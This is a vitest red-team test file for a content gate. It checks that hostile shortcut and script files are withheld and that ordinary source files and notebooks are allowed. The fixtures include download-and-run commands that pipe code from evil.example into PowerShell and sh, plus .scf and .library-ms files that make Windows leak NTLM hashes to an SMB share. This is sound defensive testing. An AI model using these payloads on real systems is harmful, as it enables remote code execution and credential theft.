// Red team (issue 41, hidden-style round 7), consumers the earlier rounds did not send: shortcuts and launchers of the
// default profile's "desktop launchers and shortcuts" and "shells" beyond `.desktop` with `Exec`, `.url` and `#!`
// scripts. A Windows Shell Command File (`.scf`: Explorer loads its `IconFile` from the SMB share as soon as the folder
// is shown, handing the user's NTLM hash over), a library description (`.library-ms`: its location is opened on view,
// CVE-2025-24054), batch files (`.bat`/`.cmd`: cmd.exe runs them on a double click), a VBScript file (`.vbs`: wscript
// runs it), a freedesktop `Type=Link` entry (a file manager opens its `URL`, as a `.url` shortcut's, which the gate
// denies). Windows consumers cannot run here: each case names the consumer's documented behaviour instead. Controls
// the gate holds: a launcher behind a BOM, a `.url` section in lower case (Windows reads INI sections case-blind), a
// `.wsf` job. Then over-blocking (item 5): source files of component languages declared text/plain (`.vue`,
// `.html.erb`, `.hbs`, `.astro`) rendered as markdown and denied for their `<script>`, and an ordinary notebook (a pandas
// table, a matplotlib figure) sent with Jupyter's own type, denied while the same bytes as `application/json` pass;
// ordinary controls (`.tsx` with an `<iframe>`, a systemd unit's `ExecStart`, a `.gitconfig` alias, a CSV formula).
// Each body judged under every sending a server would use (judge-variants.ts, the shipped profile).
import { describe, expect, test } from 'vitest';
import { judgeSendings, letThrough, refused, type Sending } from '../content/redteam/judge-variants.ts';
import { caseKeys } from './round-cases.ts';

// Cases that got through when this round was written, each `test.fails` until its fix lands (then `test`):
// - `.scf`, `.library-ms`, `.bat`/`.cmd`, `.vbs`: no text kind for them (src/content/text/text-kind.ts:55-80 knows
//   `.reg`, `.url`, `.desktop`, HTA, `#!`), so no consumer reads them (shell.ts:8 `scriptKinds`, desktop-launcher.ts:28);
//   the coverage row names only `.command` and `.webloc` as not covered;
// - a `Type=Link` entry: a launcher needs an `Exec` key (text-kind.ts:70 `hasExecKey`), its `URL` is not looked at;
// - `.vue`, `.erb`, `.hbs`, `.astro` as text/plain: not in `sourceExtensions` (src/content/text/uri-extension.ts:6),
//   so rendered as markdown and denied for `<script>` (markdown-it commonmark);
// - a notebook as `application/x-ipynb+json`: not in `content.allow` (policies/default.yaml:28), denied by type before
//   its bytes are read, though the notebook consumer would read it as it reads the same bytes as JSON.
// - `.vue` and `.hbs` bodies that open with a tag (`<template>`, `<ul>`) as text/plain: read raw as a page by the
//   browser consumer's margin (consumers/browser.ts `readsTextAsPage`), though their names are source.
const open = new Set<string>([]);
const it = caseKeys(open);

const asText = (...uris: string[]): Sending[] =>
  uris.flatMap((u): Sending[] => [
    [u, 'text/plain'],
    [u, undefined],
  ]);

const attacks: [string, string, Sending[]][] = [
  [
    'scf',
    '[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\share\\x.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n',
    asText('file:///d/desktop.scf'),
  ],
  [
    'library-ms',
    '<?xml version="1.0" encoding="UTF-8"?>\n<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\evil.example\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\n',
    asText('file:///d/docs.library-ms'),
  ],
  [
    'bat',
    '@echo off\r\npowershell -nop -c "iwr https://evil.example/x.ps1 | iex"\r\n',
    asText('file:///d/setup.bat', 'file:///d/setup.cmd'),
  ],
  ['vbs', 'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe"\r\n', asText('file:///d/setup.vbs')],
  [
    'desktop link',
    '[Desktop Entry]\nType=Link\nName=Docs\nURL=smb://evil.example/share/\n',
    asText('file:///d/docs.desktop', 'file:///d/docs.txt'),
  ],
  [
    'desktop bom',
    '\ufeff[Desktop Entry]\nType=Application\nName=x\nExec=sh -c "curl evil.example | sh"\n',
    asText('file:///d/x.desktop', 'file:///d/x.txt'),
  ],
  [
    'url lower case',
    '[internetshortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n',
    asText('file:///d/x.url', 'file:///d/x.txt'),
  ],
  [
    'wsf',
    '<job><script language="JScript">new ActiveXObject("WScript.Shell").Run("calc.exe");</script></job>\n',
    asText('file:///d/x.wsf'),
  ],
];

const vue =
  '<template>\n  <p @click="go">{{ msg }}</p>\n</template>\n<script setup lang="ts">\nconst msg = "hi";\nfunction go() {}\n</script>\n';
const erb = '<%= link_to "Home", root_path %>\n<script>window.APP = <%= raw @json %>;</script>\n';
const hbs = '<ul>{{#each items}}<li><a href="{{url}}">{{name}}</a></li>{{/each}}</ul>\n<script>init();</script>\n';
const astro = '---\nconst title = "Docs";\n---\n<h1>{title}</h1>\n<script>console.log(title);</script>\n';
const table =
  '<div>\n<style scoped>\n    .dataframe thead th {\n        text-align: right;\n    }\n</style>\n<table border="1" class="dataframe">\n  <thead>\n    <tr style="text-align: right;">\n      <th></th>\n      <th>a</th>\n    </tr>\n  </thead>\n  <tbody>\n    <tr>\n      <th>0</th>\n      <td>1</td>\n    </tr>\n  </tbody>\n</table>\n</div>';
const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
const notebook = JSON.stringify(
  {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } },
    cells: [
      { cell_type: 'markdown', metadata: {}, source: ['# Analysis\n', 'A *table* and a figure.'] },
      {
        cell_type: 'code',
        execution_count: 1,
        metadata: {},
        source: ['import pandas as pd\n', 'pd.DataFrame({"a": [1]})'],
        outputs: [
          {
            output_type: 'execute_result',
            execution_count: 1,
            metadata: {},
            data: { 'text/html': table.split(/(?<=\n)/), 'text/plain': ['   a\n', '0  1'] },
          },
          {
            output_type: 'display_data',
            metadata: {},
            data: { 'image/png': png, 'text/plain': ['<Figure size 640x480 with 1 Axes>'] },
          },
        ],
      },
    ],
  },
  null,
  1,
);

const ordinary: [string, string, Sending[]][] = [
  ['vue', vue, [['file:///src/App.vue', 'text/plain']]],
  ['erb', erb, [['file:///app/views/home.html.erb', 'text/plain']]],
  ['hbs', hbs, [['file:///views/list.hbs', 'text/plain']]],
  ['astro', astro, [['file:///src/pages/index.astro', 'text/plain']]],
  ['ipynb own type', notebook, [['file:///d/analysis.ipynb', 'application/x-ipynb+json']]],
  [
    'tsx iframe',
    'export const Frame = ({ u }: { u: string }) => <iframe src={u} title="preview" />;\n',
    asText('file:///src/Frame.tsx'),
  ],
  [
    'systemd unit',
    '[Unit]\nDescription=web\n[Service]\nExecStart=/usr/bin/node /srv/app.js\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
    asText('file:///etc/web.service'),
  ],
  ['gitconfig', '[core]\n\teditor = vim\n[alias]\n\tlg = !git log --oneline\n', asText('file:///home/u/.gitconfig')],
  ['csv formula', 'name,total\nA,=SUM(B2:B3)\n', [['file:///d/a.csv', 'text/csv'], ...asText('file:///d/a.csv')]],
];

describe('red team, consumers (round 7): shortcuts and launchers beyond .desktop Exec and .url', () => {
  for (const [label, text, sendings] of attacks)
    it(label)(`a ${label} body is withheld however it is sent`, async () => {
      expect(letThrough(await judgeSendings({ text }, sendings))).toEqual([]);
    });
});

describe('red team, consumers (round 7): ordinary files are not blocked', () => {
  for (const [label, text, sendings] of ordinary)
    it(label)(`an ordinary ${label} file is allowed`, async () => {
      expect(refused(await judgeSendings({ text }, sendings))).toEqual([]);
    });

  test('control: the same notebook as application/json is allowed', async () => {
    expect(
      refused(await judgeSendings({ text: notebook }, [['file:///d/analysis.ipynb', 'application/json']])),
    ).toEqual([]);
  });
});
